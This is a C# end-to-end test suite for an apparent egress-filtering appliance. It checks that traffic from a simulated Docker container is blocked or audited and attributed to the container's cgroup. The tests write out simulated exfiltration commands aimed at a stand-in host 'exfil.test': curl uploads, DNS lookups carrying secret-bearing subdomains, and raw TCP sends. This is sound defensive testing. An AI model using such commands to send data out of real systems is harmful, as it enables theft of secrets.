using System.Globalization;
using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// A "container" network namespace behind a bridge named like a Docker user-defined network (<c>br-hrlab</c>, not
/// docker0): its DNS, HTTPS and raw TCP cross the runner's forward path and meet the same enforcement as the
/// runner's own processes, over IPv4 and IPv6. The container shares the runner's files (as a container started with
/// the runner's trust bundle mounted would), so it trusts the appliance's CA through the system bundle.
/// </summary>
public sealed class ContainerTrafficTests
{
    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(20);
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(10);

    private const string Send = """
        import socket, sys
        addr, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
        s = socket.socket(socket.AF_INET6 if ':' in addr else socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
        s.connect((addr, port)); s.sendall(payload); s.close()
        """;

    /// <summary>A raw TCP upload from the container's namespace (also used by <see cref="RoutedPodTrafficTests"/>).</summary>
    internal static Task<LabProcessResult> SendFromContainer(TestLab lab, string address, int port, string payload) =>
        lab.RunInContainerAsync("python3", ["-c", Send, address, port.ToString(CultureInfo.InvariantCulture), payload], ClientTimeout);

    internal static Task<LabProcessResult> DigFromContainer(TestLab lab, params string[] args) =>
        lab.RunInContainerAsync("dig", ["+time=2", "+tries=1", .. args], ClientTimeout);

    private static bool IsForwardedDeny(JsonElement e, string address, string action) =>
        e.GetProperty("type").GetString() == "network" && e.GetProperty("address").GetString() == address && e.GetProperty("port").GetInt32() == 9000
        && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == action
        && (e.GetProperty("rule").GetString() ?? "").Contains(LabAddresses.BridgeInterface, StringComparison.Ordinal);

    [SkippableFact]
    public async Task BlockMode_ContainerBehindBrBridge_DnsHttpsAndRawTcpExfiltrationHeld_AllowedTrafficPasses()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions { Container = true });
        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy, "--upstream-ca", lab.CaCertificatePath);

        // DNS: whatever resolver the container asks (Docker copies the host's upstream into it), the appliance answers
        var allowed = await DigFromContainer(lab, "@" + lab.DnsV4, "allowed.test", "A", "+short");
        Assert.Equal(lab.Allowed.V4.ToString(), allowed.StandardOutput.Trim());
        var secret4 = EnforcementCoreTests.Unique("c4") + ".exfil.test";
        var secret6 = EnforcementCoreTests.Unique("c6") + ".exfil.test";
        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "@" + lab.DnsV4, secret4, "A")).StandardOutput, StringComparison.Ordinal);
        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "@" + lab.DnsV6, secret6, "AAAA")).StandardOutput, StringComparison.Ordinal);
        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "+tcp", "@" + lab.DnsV4, "tcp." + secret4, "TXT")).StandardOutput, StringComparison.Ordinal);

        // HTTPS: a denied host is refused by the proxy; an allowed one passes, intercepted with the appliance's CA
        var exfil = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "5", "--resolve", $"exfil.test:443:{lab.Exfil.V4}", "https://exfil.test/upload"], ClientTimeout);
        Assert.False(exfil.Succeeded, exfil.ToString());
        var exfil6 = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "5", "--resolve", $"exfil.test:443:[{lab.Exfil.V6}]", "https://exfil.test/upload6"], ClientTimeout);
        Assert.False(exfil6.Succeeded, exfil6.ToString());
        var ok = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "10", "--resolve", $"allowed.test:443:{lab.Allowed.V4}", "https://allowed.test/from-container"], ClientTimeout);
        Assert.True(ok.Succeeded, ok.ToString());
        Assert.Equal("lab:allowed.test", ok.StandardOutput.Trim());

        // raw TCP: to a denied address dropped (v4 and v6); to the policy's CIDR passes
        var p4 = EnforcementCoreTests.Unique("ctr4-");
        var p6 = EnforcementCoreTests.Unique("ctr6-");
        var pOk = EnforcementCoreTests.Unique("ctrok-");
        Assert.False((await SendFromContainer(lab, lab.Exfil.V4.ToString(), 9000, p4)).Succeeded);
        Assert.False((await SendFromContainer(lab, lab.Exfil.V6.ToString(), 9000, p6)).Succeeded);
        var passed = await SendFromContainer(lab, "198.51.100.31", 9000, pOk);
        Assert.True(passed.Succeeded, passed.ToString());
        var record = await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(pOk, StringComparison.Ordinal), Wait);
        Assert.Equal(LabAddresses.ContainerV4.ToString(), record.RemoteAddress);

        // nothing denied reached the internet; the denials are events naming the bridge
        Assert.True(await lab.DnsLog.NoneWithinAsync(r => r.Name.Contains(secret4, StringComparison.OrdinalIgnoreCase) || r.Name.Contains(secret6, StringComparison.OrdinalIgnoreCase), TimeSpan.FromSeconds(1)));
        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.Server == "exfil.test", TimeSpan.FromSeconds(1)));
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(p4, StringComparison.Ordinal) || r.Preview.Contains(p6, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V4.ToString(), "blocked"), Wait);
        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V6.ToString(), "blocked"), Wait);
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("action").GetString() == "blocked", Wait);
    }

    [SkippableFact]
    public async Task AuditMode_ContainerTraffic_PassesAndIsRecordedAsForwardedFromTheBridge()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions { Container = true });
        var policy = EnforcementCoreTests.Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal);
        await using var appliance = await ApplianceProcess.StartAsync(lab, policy, "--upstream-ca", lab.CaCertificatePath);

        var payload = EnforcementCoreTests.Unique("ctraudit-");
        var sent = await SendFromContainer(lab, lab.Exfil.V4.ToString(), 9000, payload);
        Assert.True(sent.Succeeded, sent.ToString());
        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(payload, StringComparison.Ordinal), Wait);
        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V4.ToString(), "passed"), Wait);

        var name = EnforcementCoreTests.Unique("ca") + ".exfil.test";
        var dig = await DigFromContainer(lab, "@" + lab.DnsV4, name, "A");
        Assert.Contains("status: NOERROR", dig.StandardOutput, StringComparison.Ordinal);
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "dns"
            && string.Equals(e.GetProperty("host").GetString(), name, StringComparison.OrdinalIgnoreCase) && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == "passed", Wait);

        // an HTTPS request from the container is attributed to the process in the container's namespace
        var path = EnforcementCoreTests.Unique("/from-container-");
        var curl = await lab.RunInContainerAsync("curl", ["-sS", "-k", "--max-time", "10", "--resolve", $"exfil.test:443:{lab.Exfil.V4}", "https://exfil.test" + path], ClientTimeout);
        Assert.True(curl.Succeeded, curl.ToString());
        var https = await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https"
            && e.GetProperty("path").GetString() == path, Wait);
        Assert.Equal("deny", https.GetProperty("decision").GetString());
        Assert.Equal(System.Text.Json.JsonValueKind.Object, https.GetProperty("process").ValueKind);
        Assert.EndsWith("/curl", https.GetProperty("process").GetProperty("exe").GetString(), StringComparison.Ordinal);
    }

    /// <summary>
    /// The container's process runs in a cgroup named as Docker names one (<c>…/docker/&lt;64 hex&gt;</c>), made by
    /// the test under the cgroup v2 hierarchy: the event's process carries the container's runtime and id.
    /// </summary>
    [SkippableFact]
    public async Task AuditMode_ContainerProcessInADockerCgroup_EventNamesTheContainer()
    {
        LabRequirement.SkipUnlessAvailable();
        var v2 = CgroupV2Mount();
        Skip.If(v2 is null, "no writable cgroup v2 hierarchy to make a container's cgroup in");
        var id = Convert.ToHexStringLower(System.Security.Cryptography.RandomNumberGenerator.GetBytes(32));
        var top = Path.Combine(v2, "hardenrunner-e2e-" + Guid.NewGuid().ToString("N")[..12]);
        var leaf = Path.Combine(top, "docker", id);
        Directory.CreateDirectory(leaf);
        try
        {
            await using var lab = await TestLab.StartAsync(new LabOptions { Container = true });
            var policy = EnforcementCoreTests.Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal);
            await using var appliance = await ApplianceProcess.StartAsync(lab, policy, "--upstream-ca", lab.CaCertificatePath);

            // the shell waits until it is in the container's cgroup, then becomes curl (as runc places a container's
            // init before exec); the lab's mount namespace has its own /sys, so the test moves it from the host
            var path = EnforcementCoreTests.Unique("/from-docker-cgroup-");
            var script = "i=0; until grep -q \"$1\" /proc/$$/cgroup; do i=$((i+1)); [ $i -gt 200 ] && exit 3; sleep 0.05; done; "
                + "exec curl -sS -k --max-time 10 --resolve \"exfil.test:443:$2\" \"https://exfil.test$3\"";
            var running = lab.RunInContainerAsync("sh", ["-c", script, "sh", id, lab.Exfil.V4.ToString(), path], ClientTimeout);
            var shell = await FindShellAsync(path, TimeSpan.FromSeconds(10));
            await File.WriteAllTextAsync(Path.Combine(leaf, "cgroup.procs"), shell.ToString(CultureInfo.InvariantCulture));
            var curl = await running;
            Assert.True(curl.Succeeded, curl.ToString());
            var https = await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https"
                && e.GetProperty("path").GetString() == path, Wait);
            var process = https.GetProperty("process");
            Assert.Equal(JsonValueKind.Object, process.ValueKind);
            Assert.EndsWith("/curl", process.GetProperty("exe").GetString(), StringComparison.Ordinal);
            var container = process.GetProperty("container");
            Assert.Equal("docker", container.GetProperty("runtime").GetString());
            Assert.Equal(id, container.GetProperty("id").GetString());
            Assert.Equal(JsonValueKind.Null, container.GetProperty("podUid").ValueKind);

            // the runner's own processes stay without one
            var host = EnforcementCoreTests.Unique("/from-runner-");
            var runnerCurl = await lab.RunInRunnerAsync("curl", ["-sS", "-k", "--max-time", "10", "--resolve", $"exfil.test:443:{lab.Exfil.V4}", "https://exfil.test" + host], ClientTimeout);
            Assert.True(runnerCurl.Succeeded, runnerCurl.ToString());
            var hostEvent = await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https"
                && e.GetProperty("path").GetString() == host, Wait);
            Assert.Equal(JsonValueKind.Object, hostEvent.GetProperty("process").ValueKind);
            Assert.False(hostEvent.GetProperty("process").TryGetProperty("container", out _));
        }
        finally
        {
            // empty by now (curl exited, the lab reaped it); removed innermost first
            foreach (var dir in new[] { leaf, Path.GetDirectoryName(leaf)!, top })
            {
                for (var attempt = 0; attempt < 50 && Directory.Exists(dir); attempt++)
                {
                    try
                    {
                        Directory.Delete(dir);
                    }
                    catch (IOException)
                    {
                        await Task.Delay(20);
                    }
                }
            }
        }
    }

    /// <summary>The pid of the shell whose command line holds <paramref name="marker"/> (polled, bounded by <paramref name="timeout"/>).</summary>
    private static async Task<int> FindShellAsync(string marker, TimeSpan timeout)
    {
        var until = DateTime.UtcNow + timeout;
        while (DateTime.UtcNow < until)
        {
            foreach (var dir in Directory.EnumerateDirectories("/proc"))
            {
                if (int.TryParse(Path.GetFileName(dir), NumberStyles.None, CultureInfo.InvariantCulture, out var pid))
                {
                    try
                    {
                        if ((await File.ReadAllTextAsync(Path.Combine(dir, "comm"))).Trim() == "sh"
                            && (await File.ReadAllTextAsync(Path.Combine(dir, "cmdline"))).Contains(marker, StringComparison.Ordinal))
                        {
                            return pid;
                        }
                    }
                    catch (IOException)
                    {
                        // the process exited while it was read
                    }
                }
            }

            await Task.Delay(50);
        }

        throw new TimeoutException("the container's shell did not start");
    }

    /// <summary>The mount point of the cgroup v2 hierarchy: /sys/fs/cgroup (unified) or /sys/fs/cgroup/unified (hybrid).</summary>
    private static string? CgroupV2Mount() =>
        File.ReadLines("/proc/self/mounts").Select(l => l.Split(' ')).FirstOrDefault(f => f.Length > 3 && f[2] == "cgroup2" && f[3].StartsWith("rw", StringComparison.Ordinal))?[1];
}
